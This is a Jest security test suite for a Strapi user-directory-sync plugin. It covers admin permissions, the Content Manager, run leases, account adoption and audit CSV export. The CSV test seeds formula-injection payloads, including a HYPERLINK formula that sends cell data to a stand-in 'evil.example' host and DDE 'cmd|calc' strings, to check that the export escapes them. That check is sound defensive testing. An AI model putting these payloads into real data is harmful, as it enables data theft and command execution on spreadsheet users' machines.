/**
 * Issue 14 on a real Strapi, attacker's side: items 5 (permissions), 6 (Content Manager), 7 (CSV
 * export), 10 (the run's bookkeeping) and the adoption parts of 2 and 11. Each test performs the
 * attack and shows it fails with a clear 4xx or is neutralised, and that nothing else changed.
 * The settings-level items are in security-settings.test.ts, the run-level ones in
 * security-engine.test.ts; docs/SECURITY.md maps every item to its test.
 */
import { ADMIN_ROUTES } from '../../server/src/routes';
import { ACTIONS, UID } from '../../server/src/constants';
import { createLease } from '../../server/src/sync/lease';
import { pluginApi, type PluginApi, type Run } from '../helpers/api';
import { startApp, type TestApp } from '../helpers/strapi';
import { memoryDirectory, person, registerMemoryProvider } from '../helpers/memory-provider';

const PLUGIN_UIDS = Object.values(UID);
/** The plugin's types the Content Manager never serves (directory groups: read-only, see below). */
const WITHHELD_UIDS = PLUGIN_UIDS.filter((uid) => uid !== UID.group);
const COUNTED = [
  ...PLUGIN_UIDS,
  'plugin::users-permissions.user',
  'plugin::users-permissions.role',
  'admin::user',
  'admin::role',
  'admin::permission',
];
const ALL_ACTIONS = Object.values(ACTIONS);
const MISSING_ID = 999999;

describe('security: permissions, Content Manager, audit export, bookkeeping, adoption', () => {
  let app: TestApp;
  let api: PluginApi;
  let directoryId: number;
  let appliedRunId: number;
  let dryRunId: number;
  /** How many times the plugin built a provider (i.e. got ready to call the directory). */
  let providerCalls = 0;
  const unhandled: unknown[] = [];
  const onUnhandled = (reason: unknown) => unhandled.push(reason);

  const sqlite = () => app.strapi.db.dialect.client === 'sqlite';
  const knex = () => app.strapi.db.connection;
  const rowCounts = async () =>
    Object.fromEntries(
      await Promise.all(
        COUNTED.map(async (uid) => [uid, await app.strapi.db.query(uid).count({})] as const)
      )
    );

  const tokens = new Map<string, Promise<string>>();
  /** An admin whose role holds exactly these plugin actions (one admin per set). */
  const tokenFor = (actions: readonly string[]) => {
    const key = [...actions].sort().join(',');
    if (!tokens.has(key)) tokens.set(key, app.adminWith([...actions]));
    return tokens.get(key)!;
  };
  const as = async (actions: readonly string[]) => {
    const token = await tokenFor(actions);
    const auth = { Authorization: `Bearer ${token}` };
    const url = (path: string) => `/user-directory-sync${path}`;
    return {
      get: (path: string) => app.http().get(url(path)).set(auth),
      post: (path: string, body: object = {}) => app.http().post(url(path)).set(auth).send(body),
    };
  };

  const createDirectory = async (store: string, extra: object = {}) =>
    api.createDirectory({
      name: `Directory ${store}`,
      type: 'memory',
      connection: { store },
      secrets: { token: 'right', defaultPassword: 'Shared-Default-Pass-1' },
      ...extra,
    });

  /** A trigger that makes the database refuse some statements: a real database error. */
  const refuse = async (name: string, table: string, event: string, when: string) => {
    if (sqlite()) {
      await knex().raw(
        `CREATE TRIGGER ${name} BEFORE ${event} ON ${table} FOR EACH ROW WHEN ${when} BEGIN SELECT RAISE(ABORT, 'refused by the test'); END`
      );
    } else {
      await knex().raw(
        `CREATE OR REPLACE FUNCTION ${name}_fn() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'refused by the test'; END $$`
      );
      await knex().raw(
        `CREATE TRIGGER ${name} BEFORE ${event} ON ${table} FOR EACH ROW WHEN (${when}) EXECUTE FUNCTION ${name}_fn()`
      );
    }
    return async () => {
      await knex().raw(sqlite() ? `DROP TRIGGER ${name}` : `DROP TRIGGER ${name} ON ${table}`);
    };
  };

  beforeAll(async () => {
    process.on('unhandledRejection', onUnhandled);
    app = await startApp();
    api = pluginApi(app);
    registerMemoryProvider(app.strapi);
    const providers = app.strapi.plugin('user-directory-sync').service('providers');
    const memory = providers.get('memory');
    providers.register('memory', {
      ...memory,
      factory: (settings: never) => {
        providerCalls += 1;
        return memory.factory(settings);
      },
    });

    const store = memoryDirectory('security');
    store.users = Array.from({ length: 5 }, (_, i) =>
      person(i + 1, { groupExternalIds: ['g-staff'] })
    );
    store.groups = [{ externalId: 'g-staff', name: 'Staff', description: null, members: [] }];
    directoryId = await createDirectory('security', { groupSync: { mode: 'all' } });
    const applied = await api.run(directoryId);
    expect(applied.status).toBe('succeeded');
    appliedRunId = applied.id;
    store.users.push(person(6));
    const dry = await api.run(directoryId, { dryRun: true });
    expect(dry.status).toBe('succeeded');
    dryRunId = dry.id;
  });
  afterAll(async () => {
    process.off('unhandledRejection', onUnhandled);
    await app?.stop();
  });

  describe('14.5 permissions mean what they say', () => {
    const pathOf = (path: string) =>
      `/user-directory-sync${path.replace(/:id/g, String(MISSING_ID))}`;
    const call = (method: string, path: string, token?: string) => {
      const agent = app.http();
      const req =
        method === 'GET'
          ? agent.get(path)
          : method === 'POST'
            ? agent.post(path)
            : method === 'PUT'
              ? agent.put(path)
              : agent.delete(path);
      if (token) req.set('Authorization', `Bearer ${token}`);
      return method === 'GET' || method === 'DELETE' ? req : req.send({});
    };

    it('the route table is the whole admin API Strapi serves', () => {
      const layers = app.strapi.server.listRoutes() as { path: string; methods: string[] }[];
      const served = layers
        .filter((layer) => layer.path.startsWith('/user-directory-sync/'))
        .flatMap((layer) =>
          layer.methods
            .filter((method) => method !== 'HEAD')
            .map((method) => `${method} ${layer.path.slice('/user-directory-sync'.length)}`)
        );
      expect([...new Set(served)].sort()).toEqual(
        ADMIN_ROUTES.map((route) => `${route.method} ${route.path}`).sort()
      );
    });

    it('every route: 401 without a token, 403 without its action, let through with it', async () => {
      // The admins first (they are rows too), then the counts.
      for (const route of ADMIN_ROUTES) {
        await tokenFor(ALL_ACTIONS.filter((action) => !route.actions.includes(action)));
        for (const action of route.actions) await tokenFor([action]);
      }
      const before = await rowCounts();
      const outcomes: string[] = [];
      for (const route of ADMIN_ROUTES) {
        const path = pathOf(route.path);
        const lacking = ALL_ACTIONS.filter((action) => !route.actions.includes(action));
        const anonymous = await call(route.method, path);
        const without = await call(route.method, path, await tokenFor(lacking));
        outcomes.push(`${route.method} ${route.path} anonymous ${anonymous.status}`);
        outcomes.push(`${route.method} ${route.path} without ${without.status}`);
        for (const action of route.actions) {
          const withIt = await call(route.method, path, await tokenFor([action]));
          const allowed = ![401, 403].includes(withIt.status) ? 'allowed' : withIt.status;
          outcomes.push(`${route.method} ${route.path} with ${action} ${allowed}`);
        }
      }
      const expected = ADMIN_ROUTES.flatMap((route) => [
        `${route.method} ${route.path} anonymous 401`,
        `${route.method} ${route.path} without 403`,
        ...route.actions.map((action) => `${route.method} ${route.path} with ${action} allowed`),
      ]);
      expect(outcomes).toEqual(expected);
      expect(await rowCounts()).toEqual(before);
    });

    it('the org chart (content API) is closed until users-permissions allows it', async () => {
      const anonymous = await app.http().get('/api/user-directory-sync/org-chart');
      expect(anonymous.status).toBe(403);
      const publicRole = await app.strapi.db
        .query('plugin::users-permissions.role')
        .findOne({ where: { type: 'public' } });
      const permission = await app.strapi.db.query('plugin::users-permissions.permission').create({
        data: { action: 'plugin::user-directory-sync.org-chart.index', role: publicRole.id },
      });
      try {
        const allowed = await app.http().get('/api/user-directory-sync/org-chart');
        expect([401, 403]).not.toContain(allowed.status);
      } finally {
        await app.strapi.db
          .query('plugin::users-permissions.permission')
          .delete({ where: { id: permission.id } });
      }
    });

    it('the applied changes of a run (audit entries) need the audit permission', async () => {
      const readOnly = await as([ACTIONS.read]);
      const refused = await readOnly.get(`/runs/${appliedRunId}/plan`);
      expect(refused.status).toBe(403);
      expect(refused.body.error.message).toMatch(/needs the "Read the audit log" permission/);
      expect(JSON.stringify(refused.body)).not.toMatch(/user\.create|user1@example\.com/);

      const auditor = await as([ACTIONS.read, ACTIONS.audit]);
      const applied = await auditor.get(`/runs/${appliedRunId}/plan`);
      expect(applied.status).toBe(200);
      expect(applied.body.meta.applied).toBe(true);
      expect(applied.body.data.length).toBeGreaterThan(0);
      // A dry run's plan is planned changes, not the audit log: the read action is enough.
      const planned = await readOnly.get(`/runs/${dryRunId}/plan`);
      expect(planned.status).toBe(200);
      expect(planned.body.meta.applied).toBe(false);
    });

    it('a read-only admin cannot make the plugin call the directory with its credentials', async () => {
      const before = await rowCounts();
      const calls = providerCalls;
      const readOnly = await as([ACTIONS.read]);
      for (const path of ['groups', 'adoption']) {
        const res = await readOnly.get(`/directories/${directoryId}/${path}`);
        expect(res.status).toBe(403);
      }
      expect(providerCalls).toBe(calls);
      for (const action of [ACTIONS.settings, ACTIONS.run]) {
        const allowed = await as([action]);
        const groups = await allowed.get(`/directories/${directoryId}/groups`);
        expect(groups.status).toBe(200);
        expect(groups.body.data).toEqual([expect.objectContaining({ name: 'Staff' })]);
        expect((await allowed.get(`/directories/${directoryId}/adoption`)).status).toBe(200);
      }
      expect(providerCalls).toBe(calls + 4);
      expect(await rowCounts()).toEqual(before);
    });
  });

  describe('14.6 the Content Manager API does not serve the plugin rows', () => {
    type Verb = { name: string; method: 'get' | 'post' | 'put' | 'delete'; path: string };
    const CM = '/content-manager';
    const VERBS: Verb[] = [
      { name: 'list', method: 'get', path: `${CM}/collection-types/:uid` },
      { name: 'get one', method: 'get', path: `${CM}/collection-types/:uid/:doc` },
      { name: 'create', method: 'post', path: `${CM}/collection-types/:uid` },
      { name: 'update', method: 'put', path: `${CM}/collection-types/:uid/:doc` },
      { name: 'delete', method: 'delete', path: `${CM}/collection-types/:uid/:doc` },
      { name: 'clone', method: 'post', path: `${CM}/collection-types/:uid/clone/:doc` },
      { name: 'auto-clone', method: 'post', path: `${CM}/collection-types/:uid/auto-clone/:doc` },
      {
        name: 'create and publish',
        method: 'post',
        path: `${CM}/collection-types/:uid/actions/publish`,
      },
      { name: 'publish', method: 'post', path: `${CM}/collection-types/:uid/:doc/actions/publish` },
      {
        name: 'unpublish',
        method: 'post',
        path: `${CM}/collection-types/:uid/:doc/actions/unpublish`,
      },
      { name: 'discard', method: 'post', path: `${CM}/collection-types/:uid/:doc/actions/discard` },
      {
        name: 'bulk delete',
        method: 'post',
        path: `${CM}/collection-types/:uid/actions/bulkDelete`,
      },
      {
        name: 'bulk publish',
        method: 'post',
        path: `${CM}/collection-types/:uid/actions/bulkPublish`,
      },
      {
        name: 'bulk unpublish',
        method: 'post',
        path: `${CM}/collection-types/:uid/actions/bulkUnpublish`,
      },
      {
        name: 'bulk find for validation',
        method: 'post',
        path: `${CM}/collection-types/:uid/actions/bulkFindForValidation`,
      },
      {
        name: 'count draft relations',
        method: 'get',
        path: `${CM}/collection-types/:uid/:doc/actions/countDraftRelations`,
      },
      {
        name: 'count many draft relations',
        method: 'get',
        path: `${CM}/collection-types/:uid/actions/countManyEntriesDraftRelations?documentIds[0]=:doc`,
      },
      { name: 'relations available', method: 'get', path: `${CM}/relations/:uid/createdBy` },
      { name: 'relations of a row', method: 'get', path: `${CM}/relations/:uid/:doc/createdBy` },
      { name: 'single type get', method: 'get', path: `${CM}/single-types/:uid` },
      { name: 'single type update', method: 'put', path: `${CM}/single-types/:uid` },
      { name: 'single type delete', method: 'delete', path: `${CM}/single-types/:uid` },
      {
        name: 'single type publish',
        method: 'post',
        path: `${CM}/single-types/:uid/actions/publish`,
      },
      {
        name: 'single type unpublish',
        method: 'post',
        path: `${CM}/single-types/:uid/actions/unpublish`,
      },
      {
        name: 'single type discard',
        method: 'post',
        path: `${CM}/single-types/:uid/actions/discard`,
      },
      {
        name: 'single type count draft relations',
        method: 'get',
        path: `${CM}/single-types/:uid/actions/countDraftRelations`,
      },
      { name: 'history versions', method: 'get', path: `${CM}/history-versions?contentType=:uid` },
      { name: 'configuration', method: 'get', path: `${CM}/content-types/:uid/configuration` },
    ];
    const cases = [
      ...WITHHELD_UIDS.flatMap((uid) => VERBS.map((verb) => [uid, verb.name, verb] as const)),
      // Directory groups are shown read-only: every write is refused.
      ...VERBS.filter((verb) => verb.method !== 'get').map(
        (verb) => [UID.group, verb.name, verb] as const
      ),
    ];
    let before: Record<string, number>;
    const documents = new Map<string, string>();

    beforeAll(async () => {
      before = await rowCounts();
      for (const uid of PLUGIN_UIDS) {
        const row = await app.strapi.db.query(uid).findOne({ select: ['documentId'] });
        expect(row).not.toBeNull();
        documents.set(uid, row.documentId);
      }
    });

    it.each(cases)('%s: %s is refused to a Super Admin', async (uid, _name, verb) => {
      const doc = documents.get(uid)!;
      const path = verb.path.replace(':uid', uid).replace(':doc', doc);
      const body = { documentIds: [doc], name: 'changed', action: 'changed', details: {} };
      const req = app.http()[verb.method](path).set('Authorization', `Bearer ${app.token}`);
      const res = await (verb.method === 'get' || verb.method === 'delete' ? req : req.send(body));
      expect(res.status).toBe(403);
      expect(res.body.error.message).toMatch(/served by its own admin API only/);
      const text = JSON.stringify(res.body);
      expect(text).not.toContain(doc);
      expect(text).not.toMatch(/"(secrets|state|profile|passwordDigest|leaseOwner)"/);
      expect(res.body.data ?? null).toBeNull();
    });

    it('no role can be granted the Content Manager on them, and nothing changed', async () => {
      const explorer = app.strapi.admin.services.permission.actionProvider
        .values()
        .filter((action: { pluginName?: string }) => action.pluginName === 'content-manager');
      for (const action of explorer as { actionId?: string; subjects?: string[] }[]) {
        for (const uid of WITHHELD_UIDS) expect(action.subjects ?? []).not.toContain(uid);
        if (action.actionId !== 'plugin::content-manager.explorer.read')
          expect(action.subjects ?? []).not.toContain(UID.group);
      }
      // Nor does its home page list them among the recent documents.
      for (const action of ['update', 'publish']) {
        const recent = await app
          .http()
          .get(`/content-manager/homepage/recent-documents?action=${action}`)
          .set('Authorization', `Bearer ${app.token}`);
        expect(recent.status).toBe(200);
        for (const uid of WITHHELD_UIDS) expect(JSON.stringify(recent.body)).not.toContain(uid);
      }
      // The users-permissions user stays served: only the plugin's own types are withheld.
      const users = await app
        .http()
        .get('/content-manager/collection-types/plugin::users-permissions.user')
        .set('Authorization', `Bearer ${app.token}`);
      expect(users.status).toBe(200);
      expect(await rowCounts()).toEqual(before);
    });

    it('shows directory groups read-only: names and members, no secret, state or digest', async () => {
      const list = await app
        .http()
        .get(`/content-manager/collection-types/${UID.group}`)
        .set('Authorization', `Bearer ${app.token}`);
      expect(`${list.status} ${JSON.stringify(list.body)}`).toMatch(/^200/);
      expect(list.body.results.length).toBeGreaterThan(0);
      for (const row of list.body.results) {
        expect(row).toHaveProperty('name');
        expect(JSON.stringify(row)).not.toMatch(/"(secrets|state|profile|passwordDigest|hash)"/);
      }
      expect(await rowCounts()).toEqual(before);
    });
  });

  describe('14.7 the audit CSV export is safe in a spreadsheet', () => {
    it('neutralises the formulas a directory puts in user and group names', async () => {
      const store = memoryDirectory('formulas');
      const evil = '=HYPERLINK("https://evil.example/?"&A1,"Click me")';
      store.users = [
        person(700, { username: evil, groupExternalIds: ['g-evil'] }),
        person(701, { username: '+cmd|calc', groupExternalIds: ['g-evil'] }),
        person(702, { username: '@SUM(1,1)' }),
      ];
      store.groups = [
        { externalId: 'g-evil', name: '-2+3+cmd|"/C calc"!A0', description: null, members: [] },
      ];
      const id = await createDirectory('formulas', { groupSync: { mode: 'all' } });
      const run = await api.run(id);
      expect(run.status).toBe('succeeded');
      const before = await rowCounts();

      const res = await api.get(`/audit/export?directory=${id}`);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toMatch(/text\/csv/);
      const csv = res.text;
      expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click me"")"`);
      expect(csv).toContain(",'+cmd|calc,");
      expect(csv).toContain(`,"'@SUM(1,1)",`);
      expect(csv).toContain(`"'-2+3+cmd|""/C calc""!A0"`);
      // No cell of the export starts a formula.
      for (const line of csv.trim().split('\n')) {
        for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
          expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
      expect(await rowCounts()).toEqual(before);
    });
  });

  describe('14.10 the run bookkeeping fails safe', () => {
    const slowDirectory = async (store: string) => {
      const memory = memoryDirectory(store);
      memory.users = Array.from({ length: 60 }, (_, i) => person(1000 + i));
      memory.pageSize = 5;
      memory.pageDelayMs = 250;
      return createDirectory(store);
    };
    const startRun = async (id: number) => {
      const res = await api.post(`/directories/${id}/runs`, {});
      expect(res.status).toBe(202);
      return res.body.data.id as number;
    };
    const endOf = async (runId: number) => {
      await app.strapi.plugin('user-directory-sync').service('runner').wait(runId);
      return (await api.get(`/runs/${runId}`)).body.data as Run;
    };
    const leaseOf = (id: number) =>
      knex()('uds_directories')
        .select('lease_owner as owner', 'lease_run_id as run')
        .where({ id })
        .first();
    const auditOf = async (runId: number) =>
      (
        await app.strapi.db
          .query(UID.auditEntry)
          .findMany({ where: { runId, action: { $startsWith: 'run.' } }, orderBy: { id: 'asc' } })
      ).map((entry: { action: string }) => entry.action);

    beforeAll(() => {
      app.strapi.config.set('plugin::user-directory-sync.leaseSeconds', 1);
    });
    afterAll(() => {
      app.strapi.config.set('plugin::user-directory-sync.leaseSeconds', 120);
    });

    it('a lease taken over by another instance stops the run with a clear message', async () => {
      unhandled.length = 0;
      const id = await slowDirectory('lease-lost');
      const runId = await startRun(id);
      await new Promise((resolve) => setTimeout(resolve, 400));
      await knex()('uds_directories')
        .where({ id })
        .update({ lease_owner: 'another-instance', lease_run_id: 424242 });
      const run = await endOf(runId);
      expect(run.status).toBe('failed');
      expect(run.error).toEqual({
        code: 'lease-lost',
        message: expect.stringMatching(
          /^The run stopped because its lease on the directory was taken over by another instance\./
        ),
      });
      expect(run.counts.seen).toBeLessThan(60);
      expect(await auditOf(runId)).toEqual(['run.start', 'run.fail']);
      // The other instance's lease is left alone.
      expect(await leaseOf(id)).toEqual({ owner: 'another-instance', run: 424242 });
      expect(unhandled).toEqual([]);
      await knex()('uds_directories')
        .where({ id })
        .update({ lease_owner: null, lease_run_id: null, lease_expires_at: null });
    });

    it('a renewal the database refuses stops the run, with no unhandled rejection', async () => {
      unhandled.length = 0;
      const id = await slowDirectory('lease-error');
      const dropTrigger = await refuse(
        'uds_test_refuse_renewal',
        'uds_directories',
        'UPDATE OF lease_expires_at',
        'OLD.lease_owner IS NOT NULL AND NEW.lease_owner IS NOT NULL'
      );
      try {
        const runId = await startRun(id);
        const run = await endOf(runId);
        expect(run.status).toBe('failed');
        expect(run.error?.code).toBe('lease-lost');
        expect(run.error?.message).toMatch(
          /^The run stopped because its lease on the directory could not be renewed \(the database refused the update\)\./
        );
        expect(run.error?.message).not.toMatch(/refused by the test/);
        expect(await auditOf(runId)).toEqual(['run.start', 'run.fail']);
        expect(await leaseOf(id)).toEqual({ owner: null, run: null });
      } finally {
        await dropTrigger();
      }
      expect(unhandled).toEqual([]);
    });

    it("lease times come from the database's clock, not the instances' clocks", async () => {
      const id = await createDirectory('clock');
      const strapi = app.strapi;
      const a = createLease(strapi, 'instance-a', 60);
      const b = createLease(strapi, 'instance-b', 60);
      const fakeClock = (offsetMs: number) =>
        jest.useFakeTimers({
          now: Date.now() + offsetMs,
          doNotFake: [
            'hrtime',
            'nextTick',
            'performance',
            'queueMicrotask',
            'setImmediate',
            'clearImmediate',
            'setInterval',
            'clearInterval',
            'setTimeout',
            'clearTimeout',
          ],
        });
      expect(await a.acquire(id, 9001)).toBe(true);
      // Instance b's clock runs two hours ahead: a's live lease must not look expired to it.
      fakeClock(2 * 3600 * 1000);
      try {
        expect(await b.acquire(id, 9002)).toBe(false);
        expect((await b.expiredRuns()).filter((run) => run.directoryId === id)).toEqual([]);
      } finally {
        jest.useRealTimers();
      }
      expect(await leaseOf(id)).toEqual({ owner: 'instance-a', run: 9001 });
      await a.release(id, 9001);

      // A lease that expired by the database's clock is free, even to a clock two hours behind.
      const brief = createLease(strapi, 'instance-a', 0.05);
      expect(await brief.acquire(id, 9003)).toBe(true);
      await new Promise((resolve) => setTimeout(resolve, 300));
      fakeClock(-2 * 3600 * 1000);
      try {
        expect(await b.acquire(id, 9004)).toBe(true);
      } finally {
        jest.useRealTimers();
      }
      expect(await leaseOf(id)).toEqual({ owner: 'instance-b', run: 9004 });
      await b.release(id, 9004);
    });

    it('a run never ends without its run.* audit entry: a failed write rolls both back', async () => {
      unhandled.length = 0;
      const store = memoryDirectory('bookkeeping');
      store.users = [person(1200), person(1201)];
      const id = await createDirectory('bookkeeping');
      const dropTrigger = await refuse(
        'uds_test_refuse_finish',
        'uds_audit_entries',
        'INSERT',
        "NEW.action = 'run.finish'"
      );
      try {
        const runId = await startRun(id);
        const run = await endOf(runId);
        // The finish could not be recorded, so the run is not marked succeeded without it.
        expect(run.status).toBe('failed');
        expect(await auditOf(runId)).toEqual(['run.start', 'run.fail']);
        const directory = await app.strapi.db.query(UID.directory).findOne({ where: { id } });
        expect(directory.lastRunAt).toBeNull();
      } finally {
        await dropTrigger();
      }
      expect(unhandled).toEqual([]);
    });
  });

  describe('14.2 / 14.11 adoption', () => {
    const USER_UID = 'plugin::users-permissions.user';

    it('never adopts a Super Admin, and a dry run adopts nobody', async () => {
      const store = memoryDirectory('adopt-admins');
      store.users = [
        person(1300, { username: 'ada', email: 'admin@example.com' }),
        person(1301, { username: 'grace', email: 'grace@example.com' }),
      ];
      const editorRole = await app.strapi.db
        .query('admin::role')
        .findOne({ where: { code: 'strapi-editor' } });
      const grace = await app.strapi.service('admin::user').create({
        email: 'grace@example.com',
        firstname: 'Grace',
        lastname: 'Hopper',
        isActive: true,
        roles: [editorRole.id],
      });
      const superAdmin = await app.strapi.db
        .query('admin::user')
        .findOne({ where: { email: 'admin@example.com' } });
      const id = await createDirectory('adopt-admins', { target: 'admin' });
      const before = await rowCounts();

      const preview = await api.get(`/directories/${id}/adoption`);
      expect(preview.status).toBe(200);
      expect(preview.body.data.map((c: { localUser: { id: number } }) => c.localUser.id)).toEqual([
        grace.id,
      ]);
      const refused = await api.post(`/directories/${id}/adoption`, { users: [superAdmin.id] });
      expect(refused.status).toBe(400);
      expect(refused.body.error.message).toMatch(/is a Super Admin: a directory never adopts/);

      const dry = await api.post(`/directories/${id}/adoption`, { users: 'all', dryRun: true });
      expect(dry.status).toBe(200);
      expect(dry.body.meta).toEqual({ dryRun: true });
      expect(dry.body.data).toEqual([
        expect.objectContaining({ localUser: expect.objectContaining({ id: grace.id }) }),
      ]);
      expect(await rowCounts()).toEqual(before);

      const all = await api.post(`/directories/${id}/adoption`, { users: 'all' });
      expect(all.body.data.map((c: { localUser: { id: number } }) => c.localUser.id)).toEqual([
        grace.id,
      ]);
      const links = await app.strapi.db
        .query(UID.identity)
        .findMany({ where: { directoryId: id, kind: 'user' } });
      expect(links.map((link: { targetId: number }) => link.targetId)).toEqual([grace.id]);
      expect(await rowCounts()).toEqual({
        ...before,
        [UID.identity]: before[UID.identity] + 1,
        [UID.auditEntry]: before[UID.auditEntry] + 1,
      });
    });

    it('never overwrites the password of an adopted account', async () => {
      const local = await app.strapi.service('plugin::users-permissions.user').add({
        username: 'linus',
        email: 'linus@example.com',
        password: 'Own-Password-1',
        provider: 'local',
        confirmed: true,
        blocked: false,
        role: (
          await app.strapi.db
            .query('plugin::users-permissions.role')
            .findOne({ where: { type: 'authenticated' } })
        ).id,
      });
      const hashBefore = (
        await app.strapi.db
          .query(USER_UID)
          .findOne({ where: { id: local.id }, select: ['password'] })
      ).password;
      const store = memoryDirectory('adopt-password');
      store.users = [
        person(1400, {
          username: 'linus',
          email: 'linus@example.com',
          password: 'Directory-Password-9',
        }),
      ];
      const id = await createDirectory('adopt-password');
      const adopted = await api.post(`/directories/${id}/adoption`, { users: [local.id] });
      expect(adopted.status).toBe(200);
      for (let i = 0; i < 2; i += 1) {
        const run = await api.run(id);
        expect(run.status).toBe('succeeded');
      }
      // The source changes the password later: the adopted account keeps its own.
      store.users = [{ ...store.users[0], password: 'Directory-Password-10' }];
      expect((await api.run(id)).status).toBe('succeeded');
      const after = await app.strapi.db
        .query(USER_UID)
        .findOne({ where: { id: local.id }, select: ['password', 'firstname'] });
      expect(after.firstname).toBe('First1400');
      expect(after.password).toBe(hashBefore);
      const login = await app
        .http()
        .post('/api/auth/local')
        .send({ identifier: 'linus@example.com', password: 'Own-Password-1' });
      expect(login.status).toBe(200);
    });
  });
});
